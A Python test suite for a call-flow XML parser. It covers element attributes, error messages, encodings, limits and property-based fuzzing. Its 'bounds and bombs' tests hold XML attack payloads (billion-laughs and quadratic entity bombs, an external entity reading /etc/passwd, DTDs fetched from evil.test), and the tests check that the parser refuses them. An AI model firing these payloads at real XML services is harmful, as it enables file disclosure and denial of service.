"""What call-flow documents are read as, which are refused in which words, and that nothing makes `parse` raise."""

from __future__ import annotations

import encodings
import pkgutil
import re
import time
from html import escape

import pytest
from hypothesis import example, given, strategies as st

from callsim.instructions import (
    MAX_BYTES,
    Conference,
    Dial,
    Document,
    Dtmf,
    Element,
    GetDigits,
    GetInput,
    Hangup,
    Message,
    MultiPartyCall,
    Number,
    Play,
    PreAnswer,
    Record,
    Redirect,
    Rejected,
    Speak,
    Stream,
    Unknown,
    User,
    Wait,
    children,
    parse,
    within,
)
from callsim.scenario.markup import document_text


def read(inside: str) -> tuple[Element, ...]:
    document = parse(f"<Response>{inside}</Response>")
    assert isinstance(document, Document), document
    return document.elements


def refused(text: str | bytes) -> Rejected:
    rejected = parse(text)
    assert isinstance(rejected, Rejected), rejected
    return rejected


# -- what is understood ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("inside", "element"),
    [
        ("<Speak>Hello</Speak>", Speak("Hello")),
        ("<Speak/>", Speak("")),
        ('<Speak voice="MAN" language="de-DE" loop="0">\n Hello \n</Speak>', Speak("Hello", loop=0)),
        (
            "<Speak>Hello <break time='1s'/><emphasis>dear <w>caller</w></emphasis>!</Speak>",
            Speak("Hello dear caller!"),
        ),
        ("<Speak>Tom &amp; <![CDATA[<Jerry>]]> &#233;</Speak>", Speak("Tom & <Jerry> é")),
        ("<Play>http://app.test/a.mp3</Play>", Play("http://app.test/a.mp3")),
        ("<Play loop='1000'>\n  http://app.test/a.mp3\n</Play>", Play("http://app.test/a.mp3", loop=1000)),
        ("<Wait/>", Wait(1000)),
        ("<Wait length='2'/>", Wait(2000)),
        ("<Wait length='0'/>", Wait(0)),
        ("<Wait length='0.5' silence='true' minSilence='100'/>", Wait(500, True, 100)),
        ("<Wait length='86400'/>", Wait(86_400_000)),
        ("<Wait length='0.0004'>what is said here is said to nobody</Wait>", Wait(0)),
        ("<Record/>", Record(60_000, None, True, "POST")),
        ("<Record maxLength='5' action='http://a.test/r' method='GET'/>", Record(5000, "http://a.test/r", True, "GET")),
        ("<Record action=' ' redirect='false' timeout='3' finishOnKey='#'/>", Record(60_000, None, False, timeout=3000)),
        (
            "<Record timeout='5' finishOnKey='9*#' recordSession='true' startOnDialAnswer='true' callbackUrl='http://a.test/r'"
            " callbackMethod='GET' fileFormat='wav'/>",
            Record(60_000, None, True, "POST", 5000, "9*#", True, True, "http://a.test/r", "GET"),
        ),
        ("<Record finishOnKey='none'/>", Record(finish_on_key="")),
        ("<Wait beep='true'/>", Wait(beep=True)),
        ("<DTMF>1w2W3</DTMF>", Dtmf("1w2W3")),
        ("<DTMF async='false'> 1*# </DTMF>", Dtmf("1*#", run_on=False)),
        ("<DTMF>12@500</DTMF>", Dtmf("12@500")),
        ("<GetDigits/>", GetDigits(None, True, "POST", 5000, 2000, "#", 99, 1, "1234567890*#", ())),
        (
            "<GetDigits action='http://a.test/d' method='GET' redirect='false' timeout='7' digitTimeout='3' finishOnKey='*'"
            " numDigits='4' retries='2' validDigits='021' playBeep='true' log='false'>"
            "<Speak>Pin<break/> please</Speak> stray <Play loop='2'>http://a.test/x.mp3</Play><Wait length='1'/></GetDigits>",
            GetDigits("http://a.test/d", False, "GET", 7000, 3000, "*", 4, 2, "120",
                      (Speak("Pin please"), Play("http://a.test/x.mp3", 2), Wait(1000))),
        ),
        ("<GetDigits finishOnKey='' validDigits='none'/>", GetDigits(finish_on_key="", valid="")),
        ("<GetInput/>", GetInput(None, True, "POST", ("dtmf",), 15_000, None, "#", 32, ())),
        (
            "<GetInput action='http://a.test/i' method='GET' redirect='false' inputType='speech  dtmf' executionTimeout='60'"
            " digitEndTimeout='10' finishOnKey='none' numDigits='4'><Speak>Hi</Speak></GetInput>",
            GetInput("http://a.test/i", False, "GET", ("dtmf", "speech"), 60_000, 10_000, "", 4, (Speak("Hi"),)),
        ),
        ("<GetInput inputType='speech' digitEndTimeout='auto'/>", GetInput(kinds=("speech",))),
        ("<Dial><Number>15550100</Number></Dial>", Dial((Number("15550100"),))),
        (
            "<Dial action='http://a.test/d' method='GET' redirect='false' timeout='20' timeLimit='60' hangupOnStar='true'"
            " callerId='1' callerName='Ann' confirmKey='1' confirmSound='http://a.test/s' confirmTimeout='9'"
            " callbackUrl='http://a.test/c' callbackMethod='GET' digitsMatch='1, 22,,*'>"
            "<Number sendDigits='1w2' sendOnPreanswer='true'>15550100</Number><User sendDigits='3'>sip:a@b.test</User></Dial>",
            Dial((Number("15550100", "1w2", True), User("sip:a@b.test", "3")), "http://a.test/d", False, "GET", 20_000, 60_000, True,
                 "1", "Ann", "1", "http://a.test/s", 9000, "http://a.test/c", "GET", ("1", "22", "*")),
        ),
        ("<Dial timeLimit='999999'><User>sip:a@b</User></Dial>", Dial((User("sip:a@b"),), time_limit=86_400_000)),
        ("<Conference>yard</Conference>", Conference("yard", None, True, "POST", True, True, False, None, 86_400_000)),
        (
            "<Conference action='http://a.test/l' method='GET' redirect='false' stayAlone='false' startConferenceOnEnter='false'"
            " endConferenceOnExit='true' maxMembers='2' timeLimit='60' muted='true' hangupOnStar='true'"
            " callbackUrl='http://a.test/c' callbackMethod='GET' waitSound='http://a.test/w'> the yard </Conference>",
            Conference("the yard", "http://a.test/l", False, "GET", False, False, True, 2, 60_000, True, True, "http://a.test/c", "GET"),
        ),
        (
            "<MultiPartyCall startMpcOnEnter='false' endMpcOnExit='true' maxDuration='300' maxParticipants='2' mute='true' hold='true'"
            " coachMode='false' statusCallbackUrl='http://a.test/s' statusCallbackMethod='GET' statusCallbackEvents='x, y'"
            " createMpcWithSingleParticipant='false' record='true' recordingCallbackUrl='http://a.test/r'"
            " recordingCallbackMethod='GET' relayDTMFInputs='true' waitTime='5'>room</MultiPartyCall>",
            MultiPartyCall("room", "", None, "POST", False, False, True, 300_000, 2, True, True, False, "http://a.test/s", "GET",
                           ("x", "y"), False, True, "http://a.test/r", "GET", True, 5000),
        ),
        ("<Message>Hi</Message>", Message("Hi")),
        (
            "<Message src='1' dst='2&lt;3' callbackUrl='http://a.test/m' callbackMethod='GET' type='sms'>Hi</Message>",
            Message("Hi", "1", "2<3", "http://a.test/m", "GET"),
        ),
        ("<Stream>wss://a.test/s</Stream>", Stream("wss://a.test/s", False, False, 86_400_000)),
        (
            "<Stream keepCallAlive='true' bidirectional='true' streamTimeout='100000' statusCallbackUrl='http://a.test/s'"
            " statusCallbackMethod='GET'>wss://a.test/s</Stream>",
            Stream("wss://a.test/s", True, True, 86_400_000, "http://a.test/s", "GET"),
        ),
        ("<PreAnswer/>", PreAnswer(())),
        (
            "<PreAnswer><Speak>Hi</Speak><GetDigits><Wait/></GetDigits><Redirect>http://a.test/</Redirect><Message>Hi</Message>"
            "<DTMF>1</DTMF><Play>http://a.test/x</Play><Wait/></PreAnswer>",
            PreAnswer((Speak("Hi"), GetDigits(prompts=(Wait(),)), Redirect("http://a.test/"), Message("Hi"), Dtmf("1"),
                       Play("http://a.test/x"), Wait())),
        ),
        ("<Hangup/>", Hangup("", None)),
        ("<Hangup reason='rejected'/>", Hangup("rejected")),
        ("<Hangup reason='busy' schedule='60'/>", Hangup("busy", 60_000)),
        ("<Hangup schedule='0'/>", Hangup(schedule=0)),
        ("<Hangup reason='Busy'/>", Hangup("")),
        ("<Redirect>http://app.test/next</Redirect>", Redirect("http://app.test/next", "POST")),
        ("<Redirect method='GET'>http://app.test/next</Redirect>", Redirect("http://app.test/next", "GET")),
        ("<MultiPartyCall>room</MultiPartyCall>", MultiPartyCall("room", "", None, "POST", False)),
        (
            "<MultiPartyCall role='Agent' onExitActionUrl='http://a.test/x' onExitActionMethod='GET' stayAlone='true'>"
            " the room </MultiPartyCall>",
            MultiPartyCall("the room", "agent", "http://a.test/x", "GET", True),
        ),
        ("<MultiPartyCall onExitActionUrl='' stayAlone='false'>room</MultiPartyCall>", MultiPartyCall("room")),
        ("<Reject/>", Unknown("Reject")),
        ("<speak>Hello</speak>", Unknown("speak")),
        ("<Reject><Number>15550100</Number><Wait length='x'/></Reject>", Unknown("Reject")),
        ("<Response/>", Unknown("Response")),
        ("<Wait xmlns='urn:x'/>", Unknown("{urn:x}Wait")),
        ("<p:Wait xmlns:p='urn:x'/>", Unknown("{urn:x}Wait")),
        ("<Wait Length='7' xmlns:p='urn:x' p:length='8' xml:lang='en'/>", Wait(1000)),
    ],
)
def test_each_element_is_read_with_its_attributes_and_its_defaults(inside: str, element: Element) -> None:
    assert read(inside) == (element,)


def test_a_response_without_children_is_a_document_without_elements() -> None:
    assert parse("<Response/>") == Document((), ())
    assert parse(b"<Response>\n stray text </Response>") == Document((), ())


def test_elements_keep_their_order_and_their_lines() -> None:
    text = """<?xml version="1.0" encoding="utf-8"?>
    <!-- a comment, and <?an instruction?> -->
    <Response>
      <Speak>one
             two</Speak><Wait
        length="2"/>

      stray text
      <?an instruction?>
      <Hangup/>
    </Response>
    """
    document = parse(text.strip())
    assert isinstance(document, Document)
    assert [type(element) for element in document.elements] == [Speak, Wait, Hangup]
    assert document.lines == (4, 5, 10)


def test_elements_within_elements_are_found_with_their_lines() -> None:
    text = """<Response>
      <PreAnswer>
        <Speak>one</Speak>
        <GetDigits>
          <Wait/><Speak>t<w>w</w>o</Speak>
        </GetDigits>
      </PreAnswer>
      <Dial>
        <Number>1</Number></Dial>
    </Response>"""
    document = parse(text)
    assert isinstance(document, Document)
    assert (document.lines, document.nested) == ((2, 8), (3, 4, 5, 5, 9))
    assert [(type(element).__name__, line) for element, line in document.every()] == [
        ("PreAnswer", 2), ("Speak", 3), ("GetDigits", 4), ("Wait", 5), ("Speak", 5), ("Dial", 8), ("Number", 9),
    ]  # fmt: skip
    early, dial = document.elements
    assert [type(each) for each in within(early)] == [Speak, GetDigits, Wait, Speak]
    assert children(dial) == (Number("1"),)
    assert [line for _, line in Document((early, dial)).every()] == [0] * 7


# -- what is refused ------------------------------------------------------------------------------------------------

SECONDS = "expected seconds from 0 to 86400, such as 2 or 0.5"
LOOPS = "expected a whole number from 0 (for ever) to 1000"


@pytest.mark.parametrize(
    ("inside", "message"),
    [
        ("<Play/>", "Play is empty, expected the URL of an audio file"),
        ("<Play> \n </Play>", "Play is empty, expected the URL of an audio file"),
        ("<Redirect></Redirect>", "Redirect is empty, expected the URL of a document"),
        ("<MultiPartyCall/>", "MultiPartyCall is empty, expected the name of a multiparty call"),
        ("<Wait length='-1'/>", f"Wait: length is '-1', {SECONDS}"),
        ("<Wait length=''/>", f"Wait: length is '', {SECONDS}"),
        ("<Wait length=' 1'/>", f"Wait: length is ' 1', {SECONDS}"),
        ("<Wait length='1s'/>", f"Wait: length is '1s', {SECONDS}"),
        ("<Wait length='1e3'/>", f"Wait: length is '1e3', {SECONDS}"),
        ("<Wait length='nan'/>", f"Wait: length is 'nan', {SECONDS}"),
        ("<Wait length='٣'/>", f"Wait: length is '٣', {SECONDS}"),
        ("<Wait length='86400.001'/>", f"Wait: length is '86400.001', {SECONDS}"),
        (f"<Wait length='{'9' * 5000}'/>", f"Wait: length is '{'9' * 40}...', {SECONDS}"),
        ("<Wait length='&#10;&#x9b;'/>", rf"Wait: length is '\n\x9b', {SECONDS}"),
        ("<Record maxLength='long'/>", f"Record: maxLength is 'long', {SECONDS}"),
        ("<Record redirect='True'/>", "Record: redirect is 'True', expected true or false"),
        ("<Hangup schedule='soon'/>", f"Hangup: schedule is 'soon', {SECONDS}"),
        ("<Speak loop='-1'/>", f"Speak: loop is '-1', {LOOPS}"),
        ("<Speak loop='1.5'/>", f"Speak: loop is '1.5', {LOOPS}"),
        (f"<Speak loop='{'9' * 5000}'/>", f"Speak: loop is '{'9' * 40}...', {LOOPS}"),
        ("<Play loop='1001'>a</Play>", f"Play: loop is '1001', {LOOPS}"),
        (
            "<MultiPartyCall stayAlone='1'>room</MultiPartyCall>",
            "MultiPartyCall: stayAlone is '1', expected true or false",
        ),
        ("<GetDigits timeout='x'/>", f"GetDigits: timeout is 'x', {SECONDS}"),
        ("<GetDigits finishOnKey='12'/>", "GetDigits: finishOnKey is '12', expected one of 0 to 9, * and #, or none"),
        ("<GetDigits finishOnKey='a'/>", "GetDigits: finishOnKey is 'a', expected one of 0 to 9, * and #, or none"),
        ("<GetDigits validDigits='1a'/>", "GetDigits: validDigits is '1a', expected keys from 0 to 9, * and #, or none"),
        ("<GetDigits numDigits='0'/>", "GetDigits: numDigits is '0', expected a whole number from 1 to 1000"),
        ("<GetDigits retries='1.5'/>", "GetDigits: retries is '1.5', expected a whole number from 1 to 1000"),
        ("<GetInput executionTimeout='4'/>", "GetInput: executionTimeout is '4', expected seconds from 5 to 60, such as 5"),
        (
            "<GetInput digitEndTimeout='11'/>",
            "GetInput: digitEndTimeout is '11', expected seconds from 2 to 10, such as 2, or auto",
        ),
        ("<GetInput inputType='touch'/>", "GetInput: inputType is 'touch', expected dtmf, speech or both"),
        ("<Record finishOnKey='#x'/>", "Record: finishOnKey is '#x', expected keys from 0 to 9, * and #, or none"),
        ("<Conference maxMembers='21'>a</Conference>", "Conference: maxMembers is '21', expected a whole number from 1 to 20"),
        ("<Conference/>", "Conference is empty, expected the name of a conference"),
        (
            "<MultiPartyCall maxDuration='299'>a</MultiPartyCall>",
            "MultiPartyCall: maxDuration is '299', expected seconds from 300 to 28800, such as 300",
        ),
        (
            "<MultiPartyCall maxParticipants='1'>a</MultiPartyCall>",
            "MultiPartyCall: maxParticipants is '1', expected a whole number from 2 to 10",
        ),
        ("<Dial timeLimit='0'><User>a</User></Dial>", "Dial: timeLimit is '0', expected seconds from 1 to 86400, such as 2 or 0.5"),
        ("<Dial> 15550100 </Dial>", "Dial is empty, expected a Number or a User"),
        ("<Dial><Number/></Dial>", "Number is empty, expected the number to dial"),
        ("<Dial><User> </User></Dial>", "User is empty, expected the SIP address to dial"),
        ("<Dial><Speak>a</Speak></Dial>", "'Speak' is not nestable in Dial, expected Number or User"),
        ("<Number>15550100</Number>", "'Number' is not nestable in Response"),
        ("<User>a</User>", "'User' is not nestable in Response"),
        ("<DTMF/>", "DTMF is empty, expected digits to send"),
        (
            "<DTMF>1-2</DTMF>",
            "DTMF holds '1-2', expected keys from 0 to 9, * and #, w for half a second and W for a second of silence",
        ),
        ("<Message/>", "Message is empty, expected the text to send"),
        ("<Stream/>", "Stream is empty, expected the URL of a WebSocket"),
        ("<GetDigits><Hangup/></GetDigits>", "'Hangup' is not nestable in GetDigits, expected Speak, Play or Wait"),
        ("<GetInput><dance/></GetInput>", "'dance' is not nestable in GetInput, expected Speak, Play or Wait"),
        (
            "<PreAnswer><Record/></PreAnswer>",
            "'Record' is not nestable in PreAnswer, expected Speak, Play, Wait, GetDigits, Redirect, Message or DTMF",
        ),
        ("<PreAnswer><GetDigits><Redirect>a</Redirect></GetDigits></PreAnswer>",
         "'Redirect' is not nestable in GetDigits, expected Speak, Play or Wait"),
        ("<Wait><Speak>a</Speak></Wait>", "'Speak' is not nestable in Wait"),
        ("<Play><break/></Play>", "'break' is not nestable in Play"),
        ("<MultiPartyCall><MultiPartyCall/></MultiPartyCall>", "'MultiPartyCall' is not nestable in MultiPartyCall"),
    ],
)
def test_an_element_that_is_not_of_its_shape_is_refused_in_words_that_teach_it(inside: str, message: str) -> None:
    rejected = refused(f"<Response>\n {inside}</Response>")
    assert rejected.message == message
    assert rejected.line == 2
    assert not rejected.empty


@pytest.mark.parametrize(
    ("text", "message", "line", "column"),
    [
        ("<response/>", "the root is 'response', expected 'Response'", 1, 1),
        ("\n\n  <html/>", "the root is 'html', expected 'Response'", 3, 3),
        ("<Response xmlns='urn:x'/>", "the root is '{urn:x}Response', expected 'Response'", 1, 1),
        ("<Response>\n <Wait>\n  <Wait/></Wait></Response>", "'Wait' is not nestable in Wait", 3, 3),
        ("<Response>\n <Play>\n\n</Play></Response>", "Play is empty, expected the URL of an audio file", 2, 2),
        ("<Response>\n<Wait></Response>", "not well-formed XML: mismatched tag", 2, 9),
        ("<Response>\n", "not well-formed XML: no element found", 2, 1),
        ("Hello", "not well-formed XML: syntax error", 1, 1),
        ("<!-- nothing else -->", "not well-formed XML: no element found", 1, 22),
        ("<Response/>\n<Response/>", "not well-formed XML: junk after document element", 2, 1),
        ("<Response>\n &nbsp;</Response>", "not well-formed XML: undefined entity", 2, 2),
        ("<Response><p:Wait/></Response>", "not well-formed XML: unbound prefix", 1, 11),
        ("<Response><Wait length='1' length='2'/></Response>", "not well-formed XML: duplicate attribute", 1, 28),
        ("<Response>\0</Response>", "not well-formed XML: not well-formed (invalid token)", 1, 11),
        (b"<Response>\n\xff</Response>", "not well-formed XML: not well-formed (invalid token)", 2, 1),
        ("<Response>\nab\ud800</Response>", "half a surrogate pair, expected text that has a UTF-8 form", 2, 3),
        ("\ud800", "half a surrogate pair, expected text that has a UTF-8 form", 1, 1),
        ('{"error": "not found"}', "not well-formed XML: not well-formed (invalid token)", 1, 1),
    ],
)
def test_what_is_no_document_is_refused_with_its_place(text: str | bytes, message: str, line: int, column: int) -> None:
    assert refused(text) == Rejected(message, line, column)


@pytest.mark.parametrize("text", ["", " \t\r\n ", b"", b" \t\r\n ", "\ufeff\n", b"\xef\xbb\xbf"])
def test_a_body_of_nothing_but_white_space_is_told_from_an_invalid_one(text: str | bytes) -> None:
    assert refused(text) == Rejected("the document is empty, expected a <Response>", empty=True)


# -- bounds and bombs -----------------------------------------------------------------------------------------------


def nested(depth: int) -> str:
    below = depth - 2
    return f"<Response><Speak>{'<s>' * below}deep{'</s>' * below}</Speak></Response>"


def padded(size: int) -> bytes:
    return b"<Response>".ljust(size - len(b"</Response>")) + b"</Response>"


def test_a_document_is_read_up_to_its_bounds() -> None:
    assert parse(nested(32)) == Document((Speak("deep"),), (1,))
    assert parse("<Response>" + "<Wait/>" * 1999 + "</Response>") == Document((Wait(),) * 1999, (1,) * 1999)
    assert parse(padded(MAX_BYTES)) == Document(())
    assert parse(padded(MAX_BYTES).decode()) == Document(())


def test_a_document_over_its_bounds_is_refused() -> None:
    assert refused(nested(33)) == Rejected("elements are nested too deep, expected at most 32 levels", 1, 18 + 30 * 3)
    rejected = refused("<Response>\n" + "<Wait/>\n" * 2000 + "</Response>")
    assert rejected == Rejected("too many elements, expected at most 2000", 2001, 1)
    too_long = Rejected("the document is too long, expected at most 102400 bytes")
    assert refused(padded(MAX_BYTES + 1)) == too_long
    assert refused(padded(MAX_BYTES + 1).decode()) == too_long
    assert refused("€" * (MAX_BYTES // 3 + 1)) == too_long
    assert refused(" " * 10_000_000) == too_long


def test_a_bound_holds_while_parsing_so_that_what_follows_is_never_looked_at() -> None:
    rejected = refused("<Response>" + "<Dive>" * 15_000 + "<& not XML at all")
    assert rejected.message == "elements are nested too deep, expected at most 32 levels"
    rejected = refused("<Response>" + "<Wait/>" * 3_000 + "<& not XML at all")
    assert rejected.message == "too many elements, expected at most 2000"


def test_elements_below_elements_count_as_well() -> None:
    rejected = refused("<Response><Speak>" + "<s/>" * 1999 + "</Speak></Response>")
    assert rejected.message == "too many elements, expected at most 2000"


BILLION_LAUGHS = (
    '<!DOCTYPE Response [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 15))
    + "]><Response><Speak>&a14;</Speak></Response>"
)
QUADRATIC = f'<!DOCTYPE Response [<!ENTITY a "{"a" * 40_000}">]><Response><Speak>{"&a;" * 20_000}</Speak></Response>'


@pytest.mark.parametrize(
    "text",
    [
        BILLION_LAUGHS,
        QUADRATIC,
        "<!DOCTYPE Response><Response/>",
        '<!DOCTYPE Response SYSTEM "http://evil.test/a.dtd"><Response/>',
        '<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/passwd">]><Response><Speak>&x;</Speak></Response>',
        '<!DOCTYPE Response [<!ENTITY % p SYSTEM "http://evil.test/p"> %p;]><Response/>',
        "<!DOCTYPE Response [<!ATTLIST Wait length CDATA '9'>]><Response><Wait/></Response>",
    ],
)
def test_a_document_type_is_refused_before_it_can_do_anything(text: str) -> None:
    started = time.perf_counter()
    for body in (text, text.encode()):
        rejected = refused(body)
        assert rejected.message == "a DOCTYPE, which call flows may not have"
        assert (rejected.line, rejected.column > 0) == (1, True)
    assert time.perf_counter() - started < 1


# -- encodings ------------------------------------------------------------------------------------------------------

GREETING = Document((Speak("Grüße"),), (2,))


def greeting(declared: str) -> str:
    return f'<?xml version="1.0" encoding="{declared}"?>\n<Response><Speak>Grüße</Speak></Response>'


@pytest.mark.parametrize(
    "body",
    [
        greeting("utf-8").encode(),
        greeting("UTF-8").encode("utf-8-sig"),
        greeting("ISO-8859-1").encode("iso-8859-1"),
        greeting("utf-16").encode("utf-16"),
        greeting("utf-16le").encode("utf-16-le"),
        greeting("utf-16be").encode("utf-16-be"),
        b'<?xml version="1.0"?>\n' + "<Response><Speak>Grüße</Speak></Response>".encode(),
        "\n<Response><Speak>Grüße</Speak></Response>".encode("utf-16"),
    ],
)
def test_bytes_are_read_in_the_encoding_they_declare(body: bytes) -> None:
    assert parse(body) == GREETING


@pytest.mark.parametrize("declared", ["utf-8", "utf-16", "iso-8859-1", "no-such-encoding"])
def test_the_encoding_a_text_declares_is_ignored_because_it_is_decoded_already(declared: str) -> None:
    assert parse(greeting(declared)) == GREETING
    assert parse("\ufeff" + greeting(declared)) == GREETING


def test_an_encoding_beyond_those_of_xml_itself_is_refused_by_name() -> None:
    expected = "expected one of UTF-8, UTF-16, UTF-16BE, UTF-16LE, US-ASCII, ISO-8859-1"
    assert refused(greeting("utf-7").encode("utf-7")) == Rejected(f"the encoding is 'utf-7', {expected}", 1, 1)


@pytest.mark.parametrize("codec", sorted(module.name for module in pkgutil.iter_modules(encodings.__path__)))
def test_no_codec_of_python_makes_parse_raise_whatever_bytes_it_claims(codec: str) -> None:
    for name in (codec, codec.replace("_", "-")):
        text = greeting(name)
        for body in (text.encode(), text.encode("utf-16"), text.encode("utf-16-le"), text.encode("utf-32")):
            assert isinstance(parse(body), Document | Rejected)


@pytest.mark.parametrize("codec", ["utf-32", "utf-32-be", "cp037"])
def test_bytes_in_an_undeclared_foreign_encoding_are_refused(codec: str) -> None:
    assert refused("<Response/>".encode(codec)).message.startswith("not well-formed XML: ")


# -- whatever comes -------------------------------------------------------------------------------------------------

WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"], exclude_characters="\ufffe\uffff"))
SAID = WORDS.map(str.strip)
NAMED = SAID.filter(bool)
OPTIONAL = st.none() | NAMED
METHODS = st.sampled_from(["GET", "POST"])
LOOP = st.integers(0, 1000)
TIME = st.integers(0, 86_400_000)
ELEMENTS: st.SearchStrategy[Element] = st.one_of(
    st.builds(Speak, SAID, LOOP),
    st.builds(Play, NAMED, LOOP),
    st.builds(Wait, TIME),
    st.builds(Record, TIME, OPTIONAL, st.booleans(), METHODS),
    st.builds(Hangup, st.sampled_from(["", "rejected", "busy"]), st.none() | TIME),
    st.builds(Redirect, NAMED, METHODS),
    st.builds(MultiPartyCall, NAMED, st.sampled_from(["", "agent", "customer"]), OPTIONAL, METHODS, st.booleans()),
    st.builds(Unknown, st.sampled_from(["Reject", "Dance", "Wait2"])),
)


def tag(name: str, text: str = "", **attributes: object) -> str:
    given = "".join(f' {key}="{escape(str(value))}"' for key, value in attributes.items() if value is not None)
    return f"<{name}{given}>{escape(text)}</{name}>"


def seconds(milliseconds: int | None) -> str | None:
    return None if milliseconds is None else f"{milliseconds // 1000}.{milliseconds % 1000:03}"


def flag(value: bool) -> str:
    return str(value).lower()


def written(element: Element) -> str:
    match element:
        case Speak(text, loop):
            return tag("Speak", text, loop=loop)
        case Play(url, loop):
            return tag("Play", url, loop=loop)
        case Wait(length):
            return tag("Wait", length=seconds(length))
        case Record(most, action, redirect, method):
            return tag("Record", maxLength=seconds(most), action=action, redirect=flag(redirect), method=method)
        case Hangup(reason, schedule):
            return tag("Hangup", reason=reason, schedule=seconds(schedule))
        case Redirect(url, method):
            return tag("Redirect", url, method=method)
        case MultiPartyCall(name, role, url, method, alone):
            exits = {"onExitActionUrl": url, "onExitActionMethod": method}
            return tag("MultiPartyCall", name, role=role, stayAlone=flag(alone), **exits)
        case Unknown(name):
            return tag(name, "anything")


DOCUMENTS = st.lists(ELEMENTS, max_size=5).map(tuple)


def as_xml(elements: tuple[Element, ...]) -> str:
    return "\n".join(["<Response>", *map(written, elements), "</Response>"])


@given(DOCUMENTS)
def test_a_document_written_as_xml_is_read_back_as_it_was(elements: tuple[Element, ...]) -> None:
    document = Document(elements, tuple(range(2, len(elements) + 2)))
    assert parse(as_xml(elements)) == document
    assert parse(as_xml(elements).encode()) == document


PROMPTS = st.lists(st.one_of(st.builds(Speak, SAID, LOOP), st.builds(Play, NAMED, LOOP), st.builds(Wait, TIME)), max_size=3).map(tuple)
KEYS = st.sampled_from(["", *"1234567890*#"])
ASKED = st.builds(GetDigits, OPTIONAL, st.booleans(), METHODS, TIME, TIME, KEYS, st.integers(1, 1000), st.integers(1, 9), prompts=PROMPTS)
TONES = st.builds(Dtmf, st.text("0123456789*#wW", min_size=1), st.booleans())
EVERY_KIND = st.one_of(
    ELEMENTS,
    ASKED,
    TONES,
    st.builds(Wait, TIME, st.booleans(), st.integers(0, 10_000), st.booleans()),
    st.builds(GetInput, OPTIONAL, st.booleans(), METHODS, st.sampled_from([("dtmf",), ("speech",), ("dtmf", "speech")]),
              st.integers(5000, 60_000), st.none() | st.integers(2000, 10_000), KEYS, st.integers(1, 1000), PROMPTS),
    st.builds(Record, TIME, OPTIONAL, st.booleans(), METHODS, TIME, st.sampled_from(["", "#", "120*#"]), st.booleans(), st.booleans(),
              OPTIONAL, METHODS),
    st.builds(Dial, st.lists(st.builds(Number, NAMED, SAID) | st.builds(User, NAMED), min_size=1, max_size=3).map(tuple), OPTIONAL,
              st.booleans(), METHODS, st.none() | TIME, st.integers(1000, 86_400_000), st.booleans(), confirm_key=KEYS,
              digits_match=st.lists(st.sampled_from(["1", "2*"]), max_size=2).map(tuple)),
    st.builds(Conference, NAMED, OPTIONAL, st.booleans(), METHODS, st.booleans(), st.booleans(), st.booleans(), st.integers(1, 20),
              st.integers(1000, 86_400_000)),
    st.builds(MultiPartyCall, NAMED, max_duration=st.integers(300_000, 28_800_000), max_participants=st.integers(2, 10),
              status_events=st.lists(st.sampled_from(["a", "b-c"]), max_size=2).map(tuple), wait_time=st.integers(0, 1_800_000)),
    st.builds(Message, NAMED, SAID, SAID, OPTIONAL),
    st.builds(Stream, NAMED, st.booleans(), st.booleans(), st.integers(1000, 86_400_000), OPTIONAL),
    st.builds(PreAnswer, st.lists(ASKED | TONES | st.builds(Message, NAMED) | st.builds(Redirect, NAMED), max_size=3).map(tuple)),
)


@given(st.lists(EVERY_KIND, max_size=5).map(tuple))
def test_every_element_is_written_so_that_it_is_read_back(elements: tuple[Element, ...]) -> None:
    read_back = parse(document_text(Document(elements)))
    assert isinstance(read_back, Document), read_back
    assert read_back.elements == elements


TAGS = ["Response", "Speak", "Play", "Redirect", "MultiPartyCall", "Reject", "p:Wait", "GetDigits", "Dial", "Number", "PreAnswer", "DTMF"]
ATTRIBUTES = [
    "",
    " ",
    "loop='0'",
    "loop='x'",
    "stayAlone='yes'",
    "timeout='5'",
    "numDigits='0'",
    "finishOnKey='##'",
    "xmlns='u'",
    "xmlns:p='u'",
    "method='&a;'",
    "a='<'",
    "a=",
]
LEAVES = ["<Wait/>", "<Wait length='1'/>", "<Record redirect='no'/>", "<Hangup schedule='5'/>", "<Hangup reason='x"]
MARKUP = ["<!DOCTYPE ", "<!ENTITY ", "<![CDATA[", "]]>", "<!--", "-->", "<?pi ", "?>", "<", ">", "&", "&amp;", "&a;"]
DECLARATIONS = [f"<?xml version='1.0' encoding='{name}'?>" for name in ("utf-8", "utf-16", "hex", "unicode_escape")]
CHARACTERS = ["text", " ", "\n", "&#0;", "&#xD800;", "\ud800", "\0", "\ufeff", "\x85", "\U0001f600"]
PIECES = st.one_of(
    st.builds("<{} {}>".format, st.sampled_from(TAGS), st.sampled_from(ATTRIBUTES)),
    st.builds("</{}>".format, st.sampled_from(TAGS)),
    st.sampled_from(LEAVES + MARKUP + DECLARATIONS + CHARACTERS),
)
SOUP = st.lists(PIECES, max_size=20).map("".join)


def spoilt(xml: str, piece: str, at: int, dropped: int) -> str:
    at %= len(xml) + 1
    return xml[:at] + piece + xml[at + dropped :]


TEXTS = st.one_of(
    st.text(),
    SOUP,
    st.builds("<Response>{}</Response>".format, SOUP),
    st.builds(spoilt, DOCUMENTS.map(as_xml), PIECES, st.integers(0, 1000), st.integers(0, 9)),
)
CODECS = st.sampled_from(["utf-8", "utf-16"])
BYTES = st.binary() | st.builds(lambda text, codec: text.encode(codec, "surrogatepass"), TEXTS, CODECS)


@given(TEXTS | BYTES)
@example(BILLION_LAUGHS)
@example(b"\x00" * 1000)
@example(b"\xff\xfe")
@example(b"\xfe\xff\x00")
def test_whatever_is_read_gives_a_document_or_a_refusal_with_a_place(text: str | bytes) -> None:
    answer = parse(text)
    assert answer == parse(text)
    if isinstance(answer, Document):
        assert len(answer.lines) == len(answer.elements)
        assert list(answer.lines) == sorted(answer.lines)
    else:
        assert re.fullmatch(r"[^\x00-\x1f\x7f-\x9f\ud800-\udfff]+", answer.message)
        assert (answer.line > 0) == (answer.column > 0) == (not answer.empty)
